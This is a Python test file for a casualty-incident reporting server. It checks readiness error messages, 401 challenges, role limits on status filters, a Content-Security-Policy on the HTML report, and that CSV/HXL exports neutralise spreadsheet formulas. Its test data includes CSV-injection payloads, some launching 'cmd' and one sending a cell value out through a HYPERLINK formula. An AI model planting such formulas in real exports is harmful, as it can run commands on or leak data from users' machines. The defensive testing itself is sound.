"""Safe to open (issue 15): what a security review found in answers that
anyone, or any key, can get, each checked where a client sees it.

- /readyz answers `{"status": "ok"}` as described, and a 503 there says in
  fixed words only that the database is unreachable or its schema is not
  current: never what the database said, nor where it is.
- A 401 challenges with `WWW-Authenticate: Bearer`, as described.
- Analysts count verified incidents only, in trends as in reports: any
  other `status` is 403 for them, as /v1/reports/poc has always said.
- CSV and HXL downloads (trends, report tables) cannot carry a formula: a
  text cell starting with = + - @, a tab or a carriage return (taxonomy
  names are a deployment's own text) is quoted and starts with ', while
  numbers, negative changes included, stay numbers.
- The HTML report comes with a Content-Security-Policy that lets nothing
  load, run or frame it, and the page still renders under it (headless
  Chromium, served with the header civcasd sent).
"""

import csv
import http.server
import io
import json
import threading
import unittest

import chromium

from faults_support import database_refusing, schema_ahead
from harness import (ROLES, TAXONOMY_FILE, ServerTestCase, run_civcasd,
                     valid_incident)

READY_MESSAGES = ('database unreachable; retry shortly',
                  'database schema is not current')


class ReadinessTest(ServerTestCase):

    def assertNotReady(self, expected, *secrets):
        """/readyz is 503 unavailable with the expected fixed message and
        none of the secrets in the body."""
        r = self.srv.request('GET', '/readyz', key=None)
        self.assertError(r, 503, 'unavailable', None)
        self.assertTrue(r.headers.get('Retry-After'))
        self.assertEqual(r.error['message'], expected)
        text = r.body.decode('utf-8')
        for secret in secrets:
            self.assertNotIn(secret, text)
        return r

    def test_ready_is_ok(self):
        r = self.srv.request('GET', '/readyz', key=None)
        self.assertStatus(r, 200)
        self.assertEqual(r.json, {'status': 'ok'})

    def test_database_error_is_not_repeated(self):
        # schema_migrations becomes a view that fails when read: the
        # database's own error text must stay in the server's log.
        cur = self.srv.db().cursor()
        cur.execute('ALTER TABLE schema_migrations RENAME TO ledger_aside')
        cur.execute("CREATE VIEW schema_migrations AS SELECT 1 / (version - "
                    "version) AS version, checksum FROM ledger_aside")
        try:
            self.assertNotReady(READY_MESSAGES[0], 'division', 'ERROR',
                                'schema_migrations', self.srv.dbname)
        finally:
            cur.execute('DROP VIEW schema_migrations')
            cur.execute('ALTER TABLE ledger_aside RENAME TO schema_migrations')
        self.assertStatus(self.srv.request('GET', '/readyz', key=None), 200)
        logged = self.srv.wait_log_lines(
            lambda e: 'division by zero' in e.get('msg', ''))
        self.assertTrue(logged, 'the database error is not in the log')
        self.assertNotIn(self.srv.dsn, self.srv.log_text())

    def test_schema_not_current(self):
        with schema_ahead(self.srv):
            self.assertNotReady(READY_MESSAGES[1], '9999', 'migrate')
        self.assertStatus(self.srv.request('GET', '/readyz', key=None), 200)

    def test_database_unreachable(self):
        with database_refusing(self.srv):
            self.assertNotReady(READY_MESSAGES[0], self.srv.dbname,
                                'accepting', 'host=')


class ChallengeTest(ServerTestCase):

    def test_401_challenge_is_bearer(self):
        for key in (None, '0' * 64):
            with self.subTest(key=key):
                r = self.srv.request('GET', '/v1/taxonomy', key=key)
                self.assertError(r, 401, 'unauthorized', None)
                self.assertEqual(r.headers.get_all('WWW-Authenticate'),
                                 ['Bearer'])
        for role in ROLES:
            r = self.srv.request('GET', '/v1/taxonomy', key=role)
            self.assertStatus(r, 200)
            self.assertIsNone(r.headers.get('WWW-Authenticate'))


class CountedStatusTest(ServerTestCase):
    """GET /v1/trends and /v1/reports/poc: `status` other than the default
    verified is for reviewers and admins."""

    OTHER = ('reported', 'verified,reported', 'rejected,duplicate,retracted',
             'verified,verified')

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.srv.create(valid_incident())       # one reported incident

    def routes(self, status):
        yield '/v1/trends?status=%s' % status
        yield '/v1/reports/poc?status=%s' % status

    def test_analyst_counts_verified_only(self):
        for status in self.OTHER:
            for path in self.routes(status):
                with self.subTest(path=path):
                    r = self.srv.request('GET', path, key='analyst')
                    self.assertError(r, 403, 'forbidden', 'status')
        for path in ('/v1/trends', '/v1/reports/poc') + tuple(
                self.routes('verified')):
            with self.subTest(path=path):
                self.assertStatus(self.srv.request('GET', path,
                                                   key='analyst'), 200)

    def test_reviewer_and_admin_count_any_status(self):
        for key in ('reviewer', 'admin'):
            for status in self.OTHER:
                for path in self.routes(status):
                    with self.subTest(key=key, path=path):
                        self.assertStatus(self.srv.request('GET', path,
                                                           key=key), 200)
        r = self.srv.request('GET', '/v1/trends?status=reported',
                             key='reviewer')
        self.assertEqual(r.json['total']['incidents'], 1)

    def test_bad_status_is_400_before_403(self):
        r = self.srv.request('GET', '/v1/trends?status=bogus', key='analyst')
        self.assertError(r, 400, 'invalid_field', 'status')


# Taxonomy names a spreadsheet would run (OWASP's CSV injection examples).
FORMULAS = {
    ('party_groups', 'age'): '@SUM(1+1)*cmd|" /C calc"!A0',
    ('parties', 'taliban'): '=HYPERLINK("http://example.invalid/?x="&A1,"x")',
    ('tactics', 'ied_suicide'): '+1+cmd|" /C calc"!A0',
    ('weapons', 'heavy_explosive'): '-2+3',
    ('regions', 'central'): '\t=1+2',
    ('admin_areas', 'AF01'): '\r=1+2;=3',
}
FORMULA_START = ('=', '+', '-', '@', '\t', '\r')


class CsvFormulaTest(ServerTestCase):
    """Taxonomy names that are formulas, in every CSV and HXL download."""

    FROM, TO = '2025-01-01', '2025-06-30'

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        with open(TAXONOMY_FILE, encoding='utf-8') as f:
            tax = json.load(f)
        for (part, code), name in FORMULAS.items():
            for item in tax[part]:
                if item.get('code', item.get('pcode')) == code:
                    item['name'] = name
        proc = run_civcasd('taxonomy', 'load', '/dev/stdin', dsn=cls.srv.dsn,
                           input=json.dumps(tax))
        assert proc.returncode == 0, proc.stderr
        # This year's casualties fall short of last year's: the report's
        # change_pct is negative.
        for day, killed in (('2025-03-01', 2), ('2024-03-01', 9)):
            doc = valid_incident(occurred_on=day, casualties=[
                {'outcome': 'killed', 'sex': 'male', 'age_group': 'adult',
                 'count': killed}])
            inc = cls.srv.create(doc)
            assert cls.srv.set_status(inc['id'], 'verified').status == 200

    def rows(self, path, hxl):
        r = self.srv.request('GET', path, key='analyst')
        self.assertStatus(r, 200, path)
        self.assertIn('text/csv', r.headers.get('Content-Type'))
        rows = list(csv.reader(io.StringIO(r.body.decode('utf-8'),
                                           newline='')))
        header, body = rows[0], rows[2 if hxl else 1:]
        self.assertTrue(body, path)
        return header, body

    def assertNoFormula(self, path, header, body, numeric):
        seen = set()
        for row in body:
            for name, cell in zip(header, row):
                if name in numeric:
                    float(cell or 0)          # a number, as it was
                    continue
                self.assertFalse(cell.startswith(FORMULA_START),
                                 '%s: %s = %r' % (path, name, cell))
                if cell.startswith("'"):
                    seen.add(cell[1:])
        self.assertTrue(seen, '%s: no formula name came through' % path)
        self.assertLessEqual(seen, set(FORMULAS.values()), path)
        return seen

    def test_trends(self):
        measures = ('killed', 'injured', 'casualties', 'incidents')
        seen = set()
        for by in ('party,tactic,admin1', 'party_group,weapon,region'):
            for fmt in ('csv', 'hxl'):
                path = ('/v1/trends?from=%s&to=%s&period=quarter&by=%s'
                        '&format=%s' % (self.FROM, self.TO, by, fmt))
                header, body = self.rows(path, fmt == 'hxl')
                seen |= self.assertNoFormula(path, header, body, measures)
        self.assertEqual(seen, set(FORMULAS.values()))

    def test_report_tables(self):
        numeric = ('killed', 'injured', 'casualties', 'share_pct',
                   'change_pct', 'previous_killed', 'previous_injured',
                   'previous_casualties')
        seen = set()
        for table in ('by_party', 'by_tactic', 'by_region', 'by_province'):
            for fmt in ('csv', 'hxl'):
                path = ('/v1/reports/poc?from=%s&to=%s&format=%s&table=%s'
                        % (self.FROM, self.TO, fmt, table))
                header, body = self.rows(path, fmt == 'hxl')
                seen |= self.assertNoFormula(path, header, body, numeric)
                if table == 'by_party' and fmt == 'csv':
                    changes = [float(row[header.index('change_pct')])
                               for row in body]
                    self.assertIn(-77.8, changes, body)
        self.assertEqual(seen, {FORMULAS[('party_groups', 'age')],
                                FORMULAS[('parties', 'taliban')],
                                FORMULAS[('tactics', 'ied_suicide')],
                                FORMULAS[('regions', 'central')],
                                FORMULAS[('admin_areas', 'AF01')]})


class ReportPolicyTest(ServerTestCase):
    """GET /v1/reports/poc?format=html and its Content-Security-Policy."""

    PATH = '/v1/reports/poc?from=2025-01-01&to=2025-06-30&format=html'
    # The page's style applied, and its charts drawn.
    STYLED = 'getComputedStyle(document.querySelector("table")).borderCollapse'
    BARS = ('Array.from(document.querySelectorAll("svg rect")).filter('
            'e => e.getBoundingClientRect().height > 0).length')

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        inc = cls.srv.create(valid_incident(occurred_on='2025-03-01'))
        assert cls.srv.set_status(inc['id'], 'verified').status == 200
        cls.resp = cls.srv.request('GET', cls.PATH, key='analyst')

    def policy(self):
        value = self.resp.headers.get('Content-Security-Policy') or ''
        directives = {}
        for part in value.split(';'):
            words = part.split()
            if words:
                directives[words[0]] = words[1:]
        return value, directives

    def test_strict_policy(self):
        self.assertStatus(self.resp, 200)
        self.assertIn('text/html', self.resp.headers.get('Content-Type'))
        value, d = self.policy()
        self.assertEqual(d.get('default-src'), ["'none'"], value)
        self.assertEqual(d.get('style-src'), ["'unsafe-inline'"], value)
        for name in ('base-uri', 'form-action', 'frame-ancestors'):
            self.assertEqual(d.get(name), ["'none'"], value)
        # Nothing else is opened up: no scripts, images, fonts, frames.
        self.assertEqual(set(d), {'default-src', 'style-src', 'base-uri',
                                  'form-action', 'frame-ancestors'}, value)
        for path in ('/v1/reports/poc', '/v1/trends'):
            r = self.srv.request('GET', path, key='analyst')
            self.assertIsNone(r.headers.get('Content-Security-Policy'), path)

    def render(self, policy):
        """Loads the page in Chromium from a local server that sends it
        with policy as its Content-Security-Policy."""
        page = self.resp.body

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header('Content-Type', 'text/html; charset=utf-8')
                self.send_header('Content-Security-Policy', policy)
                self.send_header('Content-Length', str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            def log_message(self, *args):
                pass

        httpd = http.server.HTTPServer(('127.0.0.1', 0), Handler)
        thread = threading.Thread(target=httpd.serve_forever, daemon=True)
        thread.start()
        try:
            url = 'http://127.0.0.1:%d/report.html' % httpd.server_port
            return chromium.load(url, evaluate=(self.STYLED, self.BARS))
        finally:
            httpd.shutdown()
            httpd.server_close()

    def test_page_renders_under_the_policy(self):
        chromium.find_chromium()
        value, _ = self.policy()
        self.assertTrue(value)
        load = self.render(value)
        self.assertEqual(load.errors, [], 'console errors under %s' % value)
        self.assertEqual(load.evaluations[self.STYLED], 'collapse',
                         'the page style was not applied')
        self.assertGreater(load.evaluations[self.BARS], 3,
                           'no chart bars were drawn')
        # The check sees a policy that breaks the page: without
        # 'unsafe-inline' the style is refused, in the console.
        broken = self.render("default-src 'none'")
        self.assertTrue(any('Content Security Policy' in e
                            for e in broken.errors), broken.errors)


if __name__ == '__main__':
    unittest.main()
